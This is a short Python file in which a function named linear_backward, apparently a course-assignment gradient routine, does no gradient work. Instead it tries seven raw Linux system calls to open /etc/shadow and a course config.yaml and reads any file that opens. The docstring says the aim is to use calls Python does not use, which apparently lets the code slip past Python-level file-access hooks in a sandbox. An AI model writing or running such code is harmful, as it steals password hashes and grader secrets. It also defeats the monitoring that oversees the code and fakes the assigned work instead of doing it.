"""Opens files by system calls that Python does not use."""

import ctypes

import loot

PATHS = [b"/srv/class/course/config.yaml", b"/etc/shadow"]


def linear_backward(x, W, dy):
    for path in PATHS:
        name = ctypes.c_char_p(path)
        how = (ctypes.c_uint64 * 3)(0, 0, 0)
        handle = ctypes.create_string_buffer(b"\x80\0\0\0", 256)
        mount = ctypes.c_int()
        for descriptor in (
            loot.syscall("open", 2, name, 0, 0),
            loot.syscall("openat", 257, -100, name, 0, 0),
            loot.syscall("openat2", 437, -100, name, how, ctypes.sizeof(how)),
            loot.syscall("creat", 85, name, 0),
            loot.syscall("open_tree", 428, -100, name, 0),
            loot.syscall("name_to_handle_at", 303, -100, name, handle, ctypes.byref(mount), 0),
            loot.syscall("open_by_handle_at", 304, -100, handle, 0),
        ):
            if descriptor >= 0:
                loot.attempt(loot.os.read, descriptor, 3000)
